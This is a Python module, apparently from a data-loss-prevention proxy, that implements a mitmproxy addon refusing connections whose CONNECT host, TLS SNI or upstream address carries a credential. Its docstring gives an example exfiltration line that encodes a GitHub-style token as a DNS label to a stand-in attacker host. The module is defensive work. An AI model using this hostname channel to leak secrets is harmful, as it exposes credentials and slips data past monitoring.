"""Hostnames are a channel: a token written as a DNS label (`CONNECT ghp_….exfil.example:443`, a TLS SNI inside
a tunnel to an allowed address) leaves with the resolver's query or the upstream handshake, before any request
is inspected. HostGuard inspects each hostname the proxy is about to use, and refuses there:

    http_connect       the CONNECT authority: answered with our 403 (mitmproxy's own 502 would echo the host)
    tls_clienthello    the client's SNI: no upstream TLS first; the client and server handshakes are refused
    tls_start_client / tls_start_server   ... by providing no TLS context (mitmproxy then closes the connection)
    server_connect     every upstream connection (reverse and upstream modes, plain HTTP, a late SNI): the
                       destination host and SNI; a refused connection is never resolved nor opened

A hostname is never a use position, so issuer binding does not apply. `redact` cannot apply either: a finding
whose action is redact blocks. A `log` action (or dry-run) lets the connection go, with its incident.
The URL host and the Host header of requests are inspected with the request (extract.url, extract.headers).
"""

from __future__ import annotations

import logging

from mitmproxy import connection, http, tls
from mitmproxy.proxy import server_hooks

from ..engine.findings import Finding
from ..engine.vocab import Action, Direction, Enforcement, Verdict
from ..inspect import redact
from ..inspect.policy import Active, Decision, FlowContext, decide, normalize_host, with_action
from ..ops.incidents import IncidentLog
from ..ops.metrics import Metrics
from .addon import ProfileState
from .enforce import GENERATED, INCIDENT, VERDICT, block_response, error_reason, record_decision

logger = logging.getLogger(__name__)


class HostGuard:
    """Refuses connections whose hostname (CONNECT authority, SNI, upstream address) carries a credential."""

    name = "dlp-host-guard"

    def __init__(self, state: ProfileState, metrics: Metrics | None = None,
                 incidents: IncidentLog | None = None) -> None:
        self.state = state
        self.metrics = metrics
        self.incidents = incidents
        self._refused: dict[str, str] = {}  # client connection id -> incident id (TLS refused for it)

    # -- hooks ----------------------------------------------------------------------------------------------

    def http_connect(self, flow: http.HTTPFlow) -> None:
        try:
            decision, ctx_ = self.judge([("connect:host", flow.request.host)], flow.client_conn, flow.request.port)
        except Exception as exc:
            return self._fail_connect(flow, exc)
        if decision is None:
            return
        incident_id = record_decision(self.metrics, self.incidents, decision, ctx_) or ""
        self._count(decision)
        if decision.enforcement == Enforcement.BLOCK:
            flow.response = block_response(decision, incident_id, Direction.REQUEST)
            flow.metadata[GENERATED] = True
            flow.metadata[VERDICT] = str(decision.verdict)
            if incident_id:
                flow.metadata[INCIDENT] = incident_id

    def tls_clienthello(self, data: tls.ClientHelloData) -> None:
        client = data.context.client
        try:
            decision, ctx_ = self.judge([("tls:sni", data.client_hello.sni or "")], client,
                                        data.context.server.address[1] if data.context.server.address else 0)
        except Exception:
            decision, ctx_ = None, None
            self._refused[client.id] = ""  # fail closed: the SNI could not be inspected
        if decision is not None:
            incident_id = record_decision(self.metrics, self.incidents, decision, ctx_) or ""
            self._count(decision)
            if decision.enforcement == Enforcement.BLOCK:
                self._refused[client.id] = incident_id
        if client.id in self._refused:
            data.establish_server_tls_first = False  # nothing goes upstream before we refuse

    def tls_start_client(self, data: tls.TlsData) -> None:
        if data.context.client.id in self._refused:
            data.ssl_conn = None  # mitmproxy closes the client connection: no TLS context

    def tls_start_server(self, data: tls.TlsData) -> None:
        if data.context.client.id in self._refused:
            data.ssl_conn = None  # never send the SNI upstream

    def server_connect(self, data: server_hooks.ServerConnectionHookData) -> None:
        server = data.server
        if data.client.id in self._refused:
            server.error = "dlproxy refused the connection (credential in the hostname)"
            return
        host, port = (server.address or ("", 0))[:2]
        names = [("server:host", str(host or ""))]
        if server.sni and server.sni != host:
            names.append(("tls:sni", server.sni))
        try:
            decision, ctx_ = self.judge(names, data.client, port)
        except Exception:
            server.error = "dlproxy could not inspect the destination"
            return
        if decision is None:
            return
        incident_id = record_decision(self.metrics, self.incidents, decision, ctx_) or ""
        self._count(decision)
        if decision.enforcement == Enforcement.BLOCK:
            server.error = f"dlproxy refused the connection (incident {incident_id})"

    def client_disconnected(self, client: connection.Client) -> None:
        self._refused.pop(client.id, None)

    # -- judging ---------------------------------------------------------------------------------------------

    def judge(self, names: list[tuple[str, str]], client: connection.Client,
              port: int) -> tuple[Decision | None, FlowContext | None]:
        """The decision for hostnames about to be used, or (None, None) when none carries a credential."""
        active: Active | None = self.state.current
        if active is None or not any(name for _, name in names):
            return None, None
        findings: list[Finding] = []
        secrets: dict[str, Finding] = {}
        for location, name in names:
            raw = name.encode("utf-8", "surrogateescape")
            for f in active.detector.scan(raw):
                located = f.at(location)
                findings.append(located)
                secrets.setdefault(raw[f.start:f.end].decode("latin-1"), located)
        if not findings:
            return None, None
        masks = {s: f.masked for s, f in secrets.items()}
        shown = redact.scrub(normalize_host(names[0][1]), masks)
        peer = client.peername
        ctx_ = FlowContext(direction=Direction.REQUEST, host=shown, method="CONNECT", scheme="", port=port,
                           path="", client=peer[0] if peer else "")
        decision = decide(findings, [], ctx_, active, self.state.dry_run, issuer_binding=False)
        if decision.enforcement == Enforcement.REDACT:
            decision = with_action(decision, Action.BLOCK, "a hostname cannot be redacted")
        return decision, ctx_

    def _count(self, decision: Decision) -> None:
        if self.metrics is not None:
            self.metrics.flows_total.labels(direction=Direction.REQUEST, verdict=decision.verdict).inc()

    def _fail_connect(self, flow: http.HTTPFlow, exc: BaseException) -> None:
        """The CONNECT host could not be inspected: refuse it (without echoing it)."""
        logger.error(f"dlproxy could not inspect a CONNECT destination ({error_reason(exc)}); refused")
        if self.metrics is not None:
            self.metrics.inspection_errors_total.labels(reason=error_reason(exc)).inc()
            self.metrics.flows_total.labels(direction=Direction.REQUEST, verdict=Verdict.ERROR).inc()
        flow.response = http.Response.make(403, b"dlproxy could not inspect this destination\n",
                                           {"Content-Type": "text/plain"})
        flow.metadata[GENERATED] = True
